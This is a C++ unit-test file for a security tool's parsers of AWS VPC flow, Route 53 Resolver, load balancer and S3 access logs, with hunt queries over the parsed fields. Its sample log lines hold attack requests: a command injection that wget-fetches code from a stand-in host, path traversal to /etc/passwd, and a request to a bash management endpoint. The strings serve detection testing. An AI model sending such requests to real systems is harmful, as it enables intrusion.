// The VPC flow, Route 53 Resolver, load balancer and S3 access log parsers:
// golden summaries of the samples in shared/data, the awkward lines, and
// queries over their fields (as `vigil hunt` runs them on stored records).
//
// Goldens: testdata/text_logs.golden holds, per sample file, the parser that
// recognised it and, per event, its id, time, account, principal, resources
// and every field the resolver answers; then dead letters and warnings. Run
// with VIGIL_UPDATE_GOLDEN=1 to rewrite it, then read the diff.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>

#include "common/time.h"
#include "event/delimited_fields.h"
#include "formats/alb.h"
#include "formats/cloudtrail.h"
#include "formats/parser.h"
#include "formats/record_fields.h"
#include "formats/route53resolver.h"
#include "formats/s3access.h"
#include "formats/test_sink.h"
#include "formats/vpcflow.h"
#include "query/matcher.h"
#include "query/parser.h"

namespace vigil {
namespace {

namespace fs = std::filesystem;

using testing::Collect;
using testing::ExpectGolden;
using testing::ReadFile;
using testing::kTestIngest;
using testing::ParseAs;
using testing::RecognisedAs;

const fs::path kData = VIGIL_SHARED_DATA;

std::string Field(const Event& e, std::string_view name) { return e.FirstString(FieldPath(name)); }

// The fields a delimited record answers, as `name=value` (numbers marked #).
std::string DelimitedSummary(const DelimitedFields& f) {
  std::string out;
  for (size_t i = 0; i < f.table().size(); ++i) {
    const FieldValue* v = f.value(i);
    if (!v) continue;
    out += " " + f.table().name(i) + (v->kind == ValueKind::kNumber ? "=#" : "=") + std::string(v->text);
  }
  return out;
}

std::string Summary(const Collect& c) {
  std::string out;
  for (const Event& e : c.events) {
    out += "event " + e.id + " | " + (e.time_fallback ? "ingest-time" : FormatRfc3339(e.time_ns)) + " | " + e.account +
           " | " + e.principal + " |";
    for (const std::string& r : e.resources) out += " " + r;
    out += "\n ";
    if (const auto* d = dynamic_cast<const DelimitedFields*>(e.fields.get())) {
      out += DelimitedSummary(*d);
    } else {
      for (const char* path : {"query_name", "query_domain", "query_type", "rcode", "answers.Rdata", "srcaddr", "srcids.instance",
                               "firewall_rule_action", "firewall_domain_list_id"}) {
        std::string v = Field(e, path);
        if (!v.empty()) out += std::string(" ") + path + "=" + v;
      }
    }
    out += "\n";
  }
  for (const DeadLetter& d : c.dead) out += "dead " + std::to_string(d.record) + ": " + d.reason + "\n";
  for (const std::string& w : c.warnings) out += "warning " + w + "\n";
  return out;
}

const char* const kSamples[] = {
    "vpcflow/awsdocs-examples.log",
    "vpcflow/elastic-integrations-test-v5-all-fields.log",
    "vpcflow/elastic-integrations-test-tgw-samples.excerpt.log",
    "dns/awsdocs-examples.jsonl",
    "dns/elastic-integrations-test-route53.excerpt.jsonl",
    "alb/awsdocs-examples.log",
    "alb/elastic-integrations-test-alb.log",
    "s3access/awsdocs-examples.log",
    "s3access/elastic-integrations-test-s3-server-access.excerpt.log",
};

TEST(TextLogsTest, SamplesMatchGolden) {
  std::string got;
  for (const char* file : kSamples) {
    std::string text = ReadFile(kData / file);
    ASSERT_FALSE(text.empty()) << file;
    std::string_view parser = RecognisedAs(text);
    got += "== " + std::string(file) + " (" + std::string(parser) + ")\n";
    if (parser != "(none)") got += Summary(ParseAs(parser, text));
  }
  ExpectGolden("text_logs", got);
}

TEST(TextLogsTest, EverySampleParsesWithoutErrorsAsItsType) {
  const std::pair<const char*, std::string_view> expected[] = {
      {"vpcflow", kVpcFlow}, {"dns", kRoute53Resolver}, {"alb", kAlb}, {"s3access", kS3Access}};
  for (const char* file : kSamples) {
    std::string_view dir = std::string_view(file).substr(0, std::string_view(file).find('/'));
    std::string_view want;
    for (const auto& [d, type] : expected)
      if (dir == d) want = type;
    std::string text = ReadFile(kData / file);
    ASSERT_EQ(RecognisedAs(text), want) << file;
    Collect c = ParseAs(want, text);
    EXPECT_FALSE(c.events.empty()) << file;
    EXPECT_TRUE(c.dead.empty()) << file << ": " << c.dead[0].reason;
    // Only the v3 example's layout has no `start`: its records take the ingest time.
    for (const std::string& w : c.warnings) EXPECT_NE(w.find(": no start; using ingest time"), std::string::npos) << w;
  }
}

TEST(TextLogsTest, OtherLogsAndDocumentsAreNotClaimed) {
  // The JSON types keep their files, and documentation is no log.
  for (const char* file : {"cloudtrail/stratus-red-team/docs/detonation-logs/aws.defense-evasion.cloudtrail-stop.json",
                           "guardduty/panther-test-logs.jsonl", "securityhub/awsdocs-example-findings.asff.jsonl",
                           "vpcflow/awsdocs/flow-logs.md", "alb/awsdocs/load-balancer-access-logs.md",
                           "s3access/awsdocs/LogFormat.md", "dns/awsdocs/LICENSE-SUMMARY"}) {
    std::string text = ReadFile(kData / file);
    if (text.empty()) continue;  // (a sample that moved)
    for (const auto& p : ParserRegistry::Default().parsers()) {
      std::string_view n = p->name();
      if (n == kVpcFlow || n == kAlb || n == kS3Access || n == kRoute53Resolver) {
        EXPECT_FALSE(p->Recognize(std::string_view(text).substr(0, 65536))) << n << " claims " << file;
      }
    }
  }
  for (std::string_view head : {"", "\n", "version", "2 1 2 3", "http", "{\"query_name\":\"a\"}", "[]", "tls 2.0 x",
                                "2024-01-01T00:00:00Z worker 42 started", "2024-01-01T00:00:00Z INFO main:12 ready"})
    EXPECT_EQ(RecognisedAs(head), "(none)") << head;
}

// --- VPC flow logs

TEST(TextLogsTest, FlowHeadersSetTheLayoutUntilTheNext) {
  std::string v2 = "2 123456789010 eni-1 10.0.0.1 10.0.0.2 1234 22 6 20 4249 1418530010 1418530070 REJECT OK\n";
  std::string custom = "version srcaddr dstport action start\n5 10.0.0.9 3389 ACCEPT 1418530011\n";
  Collect c = ParseAs(kVpcFlow, v2 + custom +
                                  "version account-id interface-id srcaddr dstaddr srcport dstport protocol "
                                  "packets bytes start end action log-status\n" +
                                  v2);
  ASSERT_EQ(c.events.size(), 3u);
  EXPECT_TRUE(c.dead.empty());
  EXPECT_EQ(Field(c.events[0], "dstport"), "22");
  EXPECT_EQ(c.events[0].raw, v2.substr(0, v2.size() - 1));
  EXPECT_EQ(c.events[0].principal, "eni-1");
  EXPECT_EQ(c.events[0].account, "123456789010");
  EXPECT_EQ(c.events[0].time_ns, 1418530010 * kNanosPerSecond);
  // A custom layout's record keeps its header, so that it reads again on its own.
  EXPECT_EQ(c.events[1].raw, "version srcaddr dstport action start\n5 10.0.0.9 3389 ACCEPT 1418530011");
  EXPECT_EQ(Field(c.events[1], "dstport"), "3389");
  EXPECT_EQ(c.events[1].principal, "10.0.0.9");  // no interface-id
  EXPECT_EQ(c.events[1].account, "");
  // A header naming the default layout: the record is the line alone, with the same id as without the header.
  EXPECT_EQ(c.events[2].raw, c.events[0].raw);
  EXPECT_EQ(c.events[2].id, c.events[0].id);
}

TEST(TextLogsTest, BadFlowLinesAreDeadLettersAndTheRestLands) {
  Collect c = ParseAs(kVpcFlow,
                    "2 1 eni-1 10.0.0.1 10.0.0.2 1234 22 6 20 4249 1418530010 1418530070 REJECT OK\n"
                    "2 1 eni-1 10.0.0.1 10.0.0.2 1234 22 6 20 4249 1418530010 REJECT OK\n"
                    "x 1 eni-1 10.0.0.1 10.0.0.2 1234 22 6 20 4249 1418530010 1418530070 REJECT OK\n"
                    "version srcaddr start\n"
                    "3 10.0.0.1 - \n"
                    "3 10.0.0.1 soon\n"
                    "3 10.0.0.1\n");
  ASSERT_EQ(c.events.size(), 3u);
  ASSERT_EQ(c.dead.size(), 3u);
  EXPECT_EQ(c.dead[0].record, 1u);
  EXPECT_EQ(c.dead[0].reason, "13 fields where the default (v2) format has 14");
  EXPECT_EQ(c.dead[1].reason, "version \"x\" is not a number");
  EXPECT_EQ(c.dead[2].record, 6u);
  EXPECT_EQ(c.dead[2].reason, "2 fields where the header line names 3");
  EXPECT_TRUE(c.events[1].time_fallback);
  EXPECT_EQ(c.events[1].time_ns, kTestIngest);
  ASSERT_EQ(c.warnings.size(), 2u);
  EXPECT_EQ(c.warnings[0], "record 4: no start; using ingest time");
  EXPECT_EQ(c.warnings[1], "record 5: unusable start \"soon\"; using ingest time");
}

// --- Route 53 Resolver query logs

TEST(TextLogsTest, ResolverQueryFields) {
  std::string rec =
      R"({"version":"1.100000","account_id":"111122223333","region":"us-east-1","vpc_id":"vpc-7example",)"
      R"("query_timestamp":"2021-02-04T17:51:55Z","query_name":"bad.example.","query_type":"A","query_class":"IN",)"
      R"("rcode":"NOERROR","answers":[],"srcaddr":"10.0.0.5","srcport":"56067","transport":"UDP",)"
      R"("srcids":{"instance":"i-0abc"},"firewall_rule_action":"BLOCK","firewall_rule_group_id":"rslvr-frg-1"})";
  ASSERT_EQ(RecognisedAs(rec), kRoute53Resolver);
  Collect c = ParseAs(kRoute53Resolver, "[" + rec + "," + rec.substr(0, 30) + "]");
  ASSERT_EQ(c.events.size(), 1u);
  const Event& e = c.events[0];
  EXPECT_EQ(e.raw, rec);
  EXPECT_EQ(e.id, ContentId(kRoute53Resolver, rec));
  EXPECT_EQ(e.time_ns, *ParseTimestamp("2021-02-04T17:51:55Z"));
  EXPECT_EQ(e.account, "111122223333");
  EXPECT_EQ(e.principal, "i-0abc");
  EXPECT_EQ(e.resources, (std::vector<std::string>{"i-0abc", "vpc-7example"}));
  EXPECT_EQ(Field(e, "firewall_rule_action"), "BLOCK");
  ASSERT_EQ(c.dead.size(), 1u);
  EXPECT_EQ(c.dead[0].record, 1u);
}

// --- Load balancer logs

TEST(TextLogsTest, AlbAwkwardLines) {
  std::string space_in_uri =
      R"(http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 )"
      R"("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "Hello, world" - - - "Root=1-6" "-" "-" 0 )"
      R"(2022-05-12T06:41:29.051000Z "redirect" "-" "-" "-" "-" "Acceptable" "SpaceInUri")";
  Collect c = ParseAs(kAlb, space_in_uri +
                              "\nhttp 2022-05-12T06:41:29Z app/a/b 1.2.3.4:5 - 0 0 0 200 200 1 2 \"GET /x\n"
                              "http 2022-05-12T06:41:29Z app/a/b 1.2.3.4:5\nnonsense line here\n");
  ASSERT_EQ(c.events.size(), 1u);
  const Event& e = c.events[0];
  EXPECT_EQ(Field(e, "request"), "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1");
  EXPECT_EQ(Field(e, "request_verb"), "GET");
  EXPECT_EQ(Field(e, "request_url"), "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x");
  EXPECT_EQ(Field(e, "request_proto"), "HTTP/1.1");
  EXPECT_EQ(Field(e, "user_agent"), "Hello, world");
  EXPECT_EQ(Field(e, "elb_status_code"), "301");
  EXPECT_EQ(Field(e, "request_processing_time"), "-1");
  EXPECT_EQ(Field(e, "target_status_code"), "");  // `-`
  EXPECT_EQ(Field(e, "classification_reason"), "SpaceInUri");
  EXPECT_EQ(Field(e, "conn_trace_id"), "");  // an older line: the field is absent
  EXPECT_EQ(e.principal, "67.43.156.20");
  EXPECT_EQ(Field(e, "client_port"), "41542");
  EXPECT_EQ(e.resources, std::vector<std::string>{"app/admin/3011821a43ee0c5e"});
  ASSERT_EQ(c.dead.size(), 3u);
  EXPECT_EQ(c.dead[0].reason, "unterminated quote in field 13");
  EXPECT_EQ(c.dead[1].reason, "ALB access log line with 4 fields; at least 13 expected");
  EXPECT_EQ(c.dead[2].reason, "not an ALB, NLB or Classic Load Balancer log line");
}

TEST(TextLogsTest, ClassicElbAndIpv6Clients) {
  Collect c = ParseAs(kAlb,
                    "2015-05-13T23:39:43.945958Z my-loadbalancer [2001:db8::1]:2817 10.0.0.1:80 0.000073 0.001048 "
                    "0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.38.0\" - -\n");
  ASSERT_EQ(c.events.size(), 1u) << (c.dead.empty() ? "" : c.dead[0].reason);
  EXPECT_EQ(c.events[0].principal, "2001:db8::1");
  EXPECT_EQ(Field(c.events[0], "backend_ip"), "10.0.0.1");
  EXPECT_EQ(Field(c.events[0], "backend_status_code"), "200");
  EXPECT_EQ(c.events[0].resources, (std::vector<std::string>{"my-loadbalancer", "10.0.0.1:80"}));
}

// The request's parts under the names rules and hunts use (Sigma's
// webserver fields read them: docs/rule-authoring.md, Logsources).
TEST(TextLogsTest, AlbRequestParts) {
  auto line = [](const std::string& request) {
    return "http 2018-07-02T22:23:00.186641Z app/a/b 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 "
           "366 \"" + request + "\" \"curl/7.46.0\" - -\n";
  };
  Collect c = ParseAs(kAlb, line("GET https://www.example.com:443/a/b.php?x=1&y=../../etc/passwd HTTP/1.1") +
                                line("POST http://[2001:db8::5]:8080/mgmt/tm/util/bash HTTP/2.0") +
                                line("GET /relative?q HTTP/1.1") +
                                line("- http://internal.example.com:80-/ -") + line("- - - "));
  ASSERT_EQ(c.events.size(), 5u) << (c.dead.empty() ? "" : c.dead[0].reason);
  auto parts = [&](size_t i) {
    std::string out;
    for (const char* f : {"request_verb", "request_host", "request_port", "request_path", "request_query",
                          "request_uri", "request_proto"})
      out += std::string(f) + "=" + Field(c.events[i], f) + " ";
    return out;
  };
  EXPECT_EQ(parts(0),
            "request_verb=GET request_host=www.example.com request_port=443 request_path=/a/b.php "
            "request_query=x=1&y=../../etc/passwd request_uri=/a/b.php?x=1&y=../../etc/passwd request_proto=HTTP/1.1 ");
  EXPECT_EQ(parts(1),
            "request_verb=POST request_host=2001:db8::5 request_port=8080 request_path=/mgmt/tm/util/bash "
            "request_query= request_uri=/mgmt/tm/util/bash request_proto=HTTP/2.0 ");
  EXPECT_EQ(parts(2),
            "request_verb=GET request_host= request_port= request_path=/relative request_query=q "
            "request_uri=/relative?q request_proto=HTTP/1.1 ");
  // What the load balancer writes for a request it could not read.
  EXPECT_EQ(parts(3),
            "request_verb= request_host=internal.example.com request_port=80- request_path=/ request_query= "
            "request_uri=/ request_proto= ");
  EXPECT_EQ(parts(4),
            "request_verb= request_host= request_port= request_path= request_query= request_uri= request_proto= ");
}

// --- S3 server access logs

TEST(TextLogsTest, S3AccessPrincipalsAndBadLines) {
  std::string_view owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be";
  std::string base = std::string(owner) + " bucket1 [06/Feb/2019:00:00:38 -0130] ";
  std::string tail =
      " 3E57427F3EXAMPLE REST.GET.VERSIONING - \"GET /bucket1?versioning HTTP/1.1\" 200 - 113 - 7 - \"-\" "
      "\"S3Console/0.4 (x)\" -";
  Collect c =
      ParseAs(kS3Access, base + "192.0.2.3 arn:aws:iam::123456789012:user/alice" + tail + "\n" + base + "192.0.2.3 " +
                           std::string(owner) + tail + "\n" + base + "- svc:logging" + tail + "\n" + base +
                           "192.0.2.3 x\n" + std::string(owner) + " b [06/Feb/2019] x" + tail + "\n");
  ASSERT_EQ(c.events.size(), 3u);
  EXPECT_EQ(c.events[0].principal, "arn:aws:iam::123456789012:user/alice");
  EXPECT_EQ(c.events[1].principal, "192.0.2.3");
  EXPECT_EQ(c.events[2].principal, "svc:logging");
  EXPECT_EQ(c.events[0].account, "");
  EXPECT_EQ(c.events[0].resources, std::vector<std::string>{"bucket1"});
  EXPECT_EQ(c.events[0].time_ns, *ParseTimestamp("2019-02-06T01:30:38Z"));
  EXPECT_EQ(Field(c.events[0], "user_agent"), "S3Console/0.4 (x)");
  EXPECT_EQ(Field(c.events[0], "http_status"), "200");
  EXPECT_EQ(Field(c.events[0], "version_id"), "");
  ASSERT_EQ(c.dead.size(), 2u);
  EXPECT_EQ(c.dead[0].reason, "5 fields; an S3 access log line has at least 17");
  EXPECT_EQ(c.dead[1].reason, "third field \"06/Feb/2019\" is not an S3 access log [time]");
  EXPECT_FALSE(ParseS3AccessTime("31/Foo/2019:00:00:38 +0000"));
  EXPECT_FALSE(ParseS3AccessTime("06/Feb/2019:24:00:38 +0000"));
}

// --- Reading stored records again, and querying them

TEST(TextLogsTest, StoredRecordsReadAgainWithTheSameFields) {
  for (const char* file : kSamples) {
    std::string text = ReadFile(kData / file);
    std::string_view type = RecognisedAs(text);
    for (const Event& e : ParseAs(type, text).events) {
      auto fields = RecordFields(e.source_type, e.raw);
      ASSERT_TRUE(fields.ok()) << file << ": " << fields.status().ToString();
      std::vector<std::string> before, after;
      e.fields->VisitAllScalars([&](const FieldValue& v) {
        before.emplace_back(v.text);
        return true;
      });
      (*fields)->VisitAllScalars([&](const FieldValue& v) {
        after.emplace_back(v.text);
        return true;
      });
      EXPECT_EQ(before, after) << file << ": " << e.raw;
    }
  }
  EXPECT_FALSE(RecordFields(kS3Access, "not a line").ok());
  EXPECT_FALSE(RecordFields(kVpcFlow, "").ok());
}

// Which sample events (by file and line) a hunt query matches, read back from
// their stored raw bytes as `vigil hunt` does.
std::vector<std::string> Hunt(std::string_view query) {
  auto q = ParseQuery(query);
  EXPECT_TRUE(q.ok()) << q.status().ToString();
  auto m = Matcher::Compile(q->search);
  EXPECT_TRUE(m.ok());
  std::vector<std::string> hits;
  for (const char* file : kSamples) {
    std::string text = ReadFile(kData / file);
    std::string_view type = RecognisedAs(text);
    for (const Event& e : ParseAs(type, text).events) {
      auto fields = RecordFields(e.source_type, e.raw);
      if (!fields.ok()) continue;
      MetadataFields meta = MetadataOf(e);
      if (m->Matches(**fields, &meta)) hits.push_back(std::string(type) + ":" + e.principal);
    }
  }
  return hits;
}

TEST(TextLogsTest, HuntQueriesMatchTextFields) {
  EXPECT_EQ(Hunt("dstport=22 action=REJECT"), std::vector<std::string>{});
  EXPECT_EQ(Hunt("dstport=3389 action=REJECT"), std::vector<std::string>{"vpcflow:eni-1235b8ca123456789"});
  EXPECT_EQ(Hunt("dstport=22 action=ACCEPT").size(), 2u);          // v2 IPv4 and IPv6
  EXPECT_EQ(Hunt("source=vpcflow log-status=NODATA").size(), 2u);  // v2 and transit gateway
  EXPECT_EQ(Hunt("tgw-attachment-id=tgw-attach-0123abcd").size(), 2u);
  EXPECT_EQ(Hunt("bytes>20000000"), std::vector<std::string>{"vpcflow:eni-1235b8ca123456789"});
  EXPECT_EQ(Hunt("elb_status_code=502"), std::vector<std::string>{"alb:192.168.131.39"});
  EXPECT_EQ(Hunt("classification_reason=SpaceInUri request_verb=GET"), std::vector<std::string>{"alb:67.43.156.20"});
  EXPECT_EQ(Hunt("operation=BATCH.DELETE.OBJECT").size(), 2u);
  EXPECT_EQ(Hunt("firewall_rule_action=BLOCK").size(), 2u);
  EXPECT_EQ(Hunt("srcids.instance=i-079c44232510ca8ff").size(), 3u);
}

}  // namespace
}  // namespace vigil
